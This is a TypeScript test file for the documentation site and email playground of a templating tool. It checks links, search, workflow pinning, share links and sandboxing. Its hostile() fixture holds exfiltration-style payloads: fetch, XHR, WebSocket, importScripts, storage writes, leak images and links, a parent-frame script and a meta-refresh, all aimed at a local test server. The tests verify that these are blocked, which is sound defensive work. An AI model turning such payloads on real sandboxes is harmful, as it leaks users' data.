import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { type Browser, chromium, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parse } from 'yaml'
import { fromHash, toHash } from '../../../docs/.vitepress/playground/page/share-link.ts'
import { BROWSER_ARGS, findBrowser } from '../../../scripts/find-browser.ts'
import { CODES } from '../src/check/rules.ts'
import { WORDINGS } from '../src/diagnostics.ts'
import { helpPage } from '../src/help-page.ts'
import { cases } from './cases.ts'
import { createProject, REPOSITORY } from './project.ts'
import { type Site, serveSite } from './serve-site.ts'

/** The site, as `npm run docs:build` builds it. VitePress itself fails if a page links to one that does not exist. */
const folder = mkdtempSync(path.join(tmpdir(), 'letterform-docs-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))
const pages: Record<string, string> = {}

beforeAll(() => {
  const vitepress = path.join(REPOSITORY, 'node_modules/vitepress/bin/vitepress.js')
  execFileSync(process.execPath, [vitepress, 'build', 'docs', '--outDir', folder], { cwd: REPOSITORY, stdio: 'pipe' })
  for (const file of readdirSync(folder).filter((file) => file.endsWith('.html'))) {
    pages[file.replace('.html', '')] = readFileSync(path.join(folder, file), 'utf8')
  }
})

it('has a page in the navigation for each file', () => {
  const files = readdirSync(path.join(REPOSITORY, 'docs')).filter((file) => file.endsWith('.md'))
  expect(Object.keys(pages).sort()).toEqual([...files.map((file) => file.replace('.md', '')), '404'].sort())
  const inSidebar = linksOf(pages.start!).map((link) => link.slice(1))
  const missing = files.map((file) => file.replace('.md', '')).filter((name) => !inSidebar.includes(name))
  expect(missing).toEqual(['index'])
})

it('has no link into nothing, and none to a heading that does not exist', () => {
  const dead = Object.entries(pages).flatMap(([name, html]) =>
    linksOf(html)
      .filter((link) => !leads(link, name))
      .map((link) => `${name}: ${link}`),
  )
  expect(dead).toEqual([])
  expect(Object.values(pages).flatMap(linksOf).length).toBeGreaterThan(500)
})

it('has a heading for every code, where commands and editors link to', () => {
  const codes = [...Object.keys(WORDINGS), ...Object.keys(CODES), 'client-breaks/css-gap']
  const links = codes.map((code) => helpPage(code, 'https://acme.example/docs/')!.split('/docs/')[1]!)
  expect(links.filter((link) => !leads(link, 'index'))).toEqual([])
  expect(links).toContain('CHECKS#text-small')
})

function leads(link: string, from: string): boolean {
  if (/^(?:https?|mailto):/.test(link)) return true
  const [name, anchor] = link.split('#')
  const page = name === '' ? from : name!.replace(/^\.?\//, '') || 'index'
  if (pages[page] === undefined) return existsSync(path.join(folder, page))
  return anchor === undefined || pages[page].includes(`id="${decodeURIComponent(anchor)}"`)
}

it('loads nothing from elsewhere', () => {
  for (const [name, html] of Object.entries(pages)) {
    const loaded = attributesOf(html, ['script', 'link', 'img', 'iframe', 'source'], ['src', 'href', 'srcset'])
    expect(
      loaded.filter((url) => !/^(?:\/|data:)/.test(url)),
      name,
    ).toEqual([])
  }
  const styles = readdirSync(path.join(folder, 'assets')).filter((file) => file.endsWith('.css'))
  for (const file of styles) {
    const css = readFileSync(path.join(folder, 'assets', file), 'utf8')
    expect(css.match(/(?:url\(|@import)\s*['"]?https?:/g), file).toBe(null)
  }
})

it('is published by a workflow that names its actions by commit, and may write nothing else', () => {
  const workflow = readFileSync(path.join(REPOSITORY, '.github/workflows/docs.yml'), 'utf8')
  const actions = workflow.split('\n').filter((line) => line.includes('uses:'))
  for (const line of actions) expect(line).toMatch(/uses: [\w.-]+\/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/)
  const { permissions, jobs } = parse(workflow) as {
    permissions: object
    jobs: Record<string, { permissions?: object }>
  }
  expect(permissions).toEqual({ contents: 'read' })
  expect(Object.values(jobs).map((job) => job.permissions)).toEqual([
    undefined,
    { pages: 'write', 'id-token': 'write' },
  ])
  expect(workflow).toContain('npm run docs:build')
})

describe('in a browser', () => {
  let browser: Browser
  let site: Site
  const faults: string[] = []
  beforeAll(async () => {
    site = await serveSite(folder)
    const executablePath = findBrowser()
    if (!executablePath) throw new Error('There is no Chromium: npx tsx scripts/find-browser.ts installs one')
    browser = await chromium.launch({ executablePath, args: BROWSER_ARGS })
  })
  afterAll(async () => {
    await browser?.close()
    site?.close()
  })

  async function visit(path: string): Promise<Page> {
    const page = await browser.newPage()
    page.on('pageerror', (error) => faults.push(error.message))
    await page.goto(`${site.origin}/${path}`)
    return page
  }

  async function open(hash = ''): Promise<Page> {
    const page = await visit(`playground${hash}`)
    await settled(page)
    return page
  }

  it('finds the page that people search for', async () => {
    const page = await visit('start')
    const input = page.locator('.VPLocalSearchBox input')
    // The page ignores keys until its code has run.
    await expect.poll(() => page.keyboard.press('Control+k').then(() => input.isVisible())).toBe(true)
    const first = () => page.locator('.result').first().getAttribute('href')
    for (const [words, section] of Object.entries(SEARCHES)) {
      await input.fill(words)
      await expect.poll(first, { message: words }).toBe(section)
    }
    await page.close()
  })

  it('makes the mail and the contract that a build makes', async () => {
    const project = createProject({}, path.join(REPOSITORY, 'packages/letterform/templates/starter'))
    expect((await project.build()).problems).toEqual([])
    const contract = JSON.parse(project.read('contract.json')) as { emails: { receipt: object } }
    const { getMailReceipt } = (await import(path.join(project.root, 'dist/emails/receipt.js'))) as Record<
      string,
      Getter
    >

    const page = await open()
    expect(await page.getByTitle('Compiler').isVisible()).toBe(false)
    const { receipt } = (JSON.parse(await shown(page, 'Contract')) as typeof contract).emails
    expect(receipt).toEqual(contract.emails.receipt)
    expect(await shown(page, 'Getter')).toBe(project.read('dist/cjs/emails/receipt.d.ts'))
    const want = getMailReceipt!(RECEIPT, {})
    expect(await mailOf(page)).toBe(want.html)
    expect(await shown(page, 'Text')).toBe(want.text)
    await page.close()
  })

  it('follows what is typed, and leads to the place of a problem', async () => {
    const page = await open()
    await type(page, '<p>Typed here</p>')
    await page.waitForFunction(() =>
      document.querySelector('iframe.mail')?.getAttribute('srcdoc')?.includes('Typed here'),
    )
    await type(page, '<x-buton>Off</x-buton>')
    await page.getByText('component-unknown').waitFor()
    await page.getByRole('button', { name: /^emails\/receipt\.html:/ }).click()
    expect(await page.evaluate(() => document.activeElement?.className)).toContain('cm-content')
    expect(pages.PROBLEMS).toContain('id="component-unknown"')
    await page.close()
  })

  it('shares a project by its link', async () => {
    const page = await open()
    await type(page, '<p>Shared words</p>')
    await page.getByRole('button', { name: 'Share' }).click()
    await page.waitForFunction(() => location.hash.length > 100)
    const other = await open(new URL(page.url()).hash)
    expect(await mailOf(other)).toContain('Shared words')
    await Promise.all([page.close(), other.close()])
  })

  it('gives a hostile project nothing, and sends nothing', async () => {
    const elsewhere = await serveSite(folder)
    const files = hostile(elsewhere.origin)
    const page = await open(await toHash({ files, open: 'emails/a.html' }))
    const mail = page.frameLocator('iframe.mail')
    expect(await mail.getByText('tried: ').textContent()).toBe('tried: fetch refused, storage refused, import refused')
    await mail.getByText('Leave').click()
    const refreshing = {
      ...files,
      'emails/a.html': `<meta http-equiv="refresh" content="0; url=${elsewhere.origin}/leak">`,
    }
    const other = await open(await toHash({ files: refreshing, open: 'emails/a.html' }))
    await other.waitForTimeout(500)
    expect(elsewhere.asked).toEqual([])
    elsewhere.close()
    expect(await page.evaluate(() => [document.title, localStorage.getItem('leak')])).toEqual([
      'Playground | Letterform',
      null,
    ])
    await Promise.all([page.close(), other.close()])
  })

  // It keeps a core busy for ten seconds.
  it.runIf(cases({ gate: 0, full: 1 }))('replaces a compiler that does not answer', async () => {
    const page = await open(await toHash({ files: { ...SMALL, 'config.js': 'for (;;) {}' }, open: 'config.js' }))
    expect(await status(page)).toContain('endless loop')
    await page.locator('.cm-content').fill('export default {}')
    await page.getByRole('tab', { name: 'Mail' }).click()
    await page.frameLocator('iframe.mail').getByText('Small').waitFor()
    await page.close()
  })

  it('refuses links that hold no project, or too much', async () => {
    expect(await fromHash('#1:AAAA')).toBeUndefined()
    expect(await fromHash(await toHash({ files: { '../a.html': '' }, open: '../a.html' }))).toBeUndefined()
    expect(await fromHash(await toHash({ files: { 'a.html': '' }, open: 'b.html' }))).toBeUndefined()
    expect(await fromHash(await toHash({ files: { 'a.html': 'a'.repeat(2_000_000) }, open: 'a.html' }))).toBeUndefined()
    expect(await fromHash(await toHash({ files: SMALL, open: 'config.js' }))).toEqual({
      files: SMALL,
      open: 'config.js',
    })
  })

  it('has no error in any of this', () => expect(faults).toEqual([]))
})

type Getter = (variables: object, globals: object) => { html: string; text: string }

/** What people search for, and the section that comes first. */
const SEARCHES = {
  'dark mode': '/STYLES#dark-mode',
  attachments: '/SENDING#attachments',
  unsubscribe: '/SENDING#unsubscribe',
  'outlook button': '/GALLERY#button',
  'expression-left': '/PROBLEMS#expression-left',
  'quota exceeded': '/SENDING#before-you-send-many',
  'optional variable': '/FRONT-MATTER#variables',
  'plain text': '/PLAIN-TEXT#plain-text',
  loop: '/EXPRESSIONS#expressions-conditions-loops',
}

/** The scenario of the starter's receipt. */
const RECEIPT = {
  firstName: 'Ada',
  orderNumber: 'A-1042',
  paidAt: '2026-03-14',
  paymentMethod: 'Visa ending in 4242',
  items: [
    { name: 'Notebook, A5', quantity: 2, price: 19 },
    { name: 'Fountain pen', quantity: 1, price: 32 },
  ],
  tax: 8.5,
  total: 51,
  orderUrl: 'https://example.com/orders/A-1042',
}

const SMALL = { 'config.js': 'export default {}', 'emails/a.html': '<p>Small</p>' }

/** Tries to send something, from the config and from the mail. */
function hostile(origin: string): Record<string, string> {
  return {
    'config.js': `
      const tried = []
      const attempt = (name, run) => {
        try {
          run()
          tried.push(name + ' done')
        } catch {
          tried.push(name + ' refused')
        }
      }
      const request = new XMLHttpRequest()
      attempt('fetch', () => { request.open('GET', '${origin}/leak-xhr', false); request.send() })
      fetch('${origin}/leak-fetch').catch(() => {})
      new WebSocket('${origin.replace('http', 'ws')}/leak-socket')
      attempt('storage', () => localStorage.setItem('leak', '1'))
      attempt('import', () => importScripts('${origin}/leak-import'))
      new Function('return import("${origin}/leak-module")')().catch(() => {})
      export default { tried: tried.join(', ') }
    `,
    'emails/a.html': `<!doctype html><html><head>
      <link rel="preconnect" href="${origin}"><link rel="stylesheet" href="${origin}/leak-style">
      <style>@import url(${origin}/leak-import); p { background: url(${origin}/leak-background) }</style></head><body>
      <p>Hostile</p><p>tried: {{ page.tried }}</p>
      <img src="${origin}/leak-image" alt=""><a href="${origin}/leak-link">Leave</a>
      <script>parent.document.title = 'leak'; localStorage.setItem('leak', '1')</script></body></html>`,
  }
}

/** Waits until the page shows the result of what it has. */
async function settled(page: Page): Promise<void> {
  await page.waitForFunction(() => / ms$|stopped/.test(document.querySelector('output')?.value ?? ''))
}

async function status(page: Page): Promise<string> {
  return (await page.locator('.status').textContent())!
}

async function type(page: Page, text: string): Promise<void> {
  await page.locator('.cm-content').click()
  await page.keyboard.press('Control+End')
  await page.keyboard.insertText(text)
}

async function shown(page: Page, tab: string): Promise<string> {
  await page.getByRole('tab', { name: tab }).click()
  return (await page.locator('.result pre').textContent())!
}

async function mailOf(page: Page): Promise<string> {
  await page.getByRole('tab', { name: 'Mail' }).click()
  return (await page.locator('iframe.mail').getAttribute('srcdoc'))!
}

function linksOf(html: string): string[] {
  return attributesOf(html, ['a'], ['href'])
}

function attributesOf(html: string, elements: string[], names: string[]): string[] {
  const tags = html.matchAll(/<(\w+)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/g)
  return [...tags].flatMap(([, element, attributes]) =>
    elements.includes(element!)
      ? [...attributes!.matchAll(/([\w-]+)="([^"]*)"/g)].flatMap(([, name, value]) =>
          names.includes(name!) ? [value!.replaceAll('&amp;', '&')] : [],
        )
      : [],
  )
}
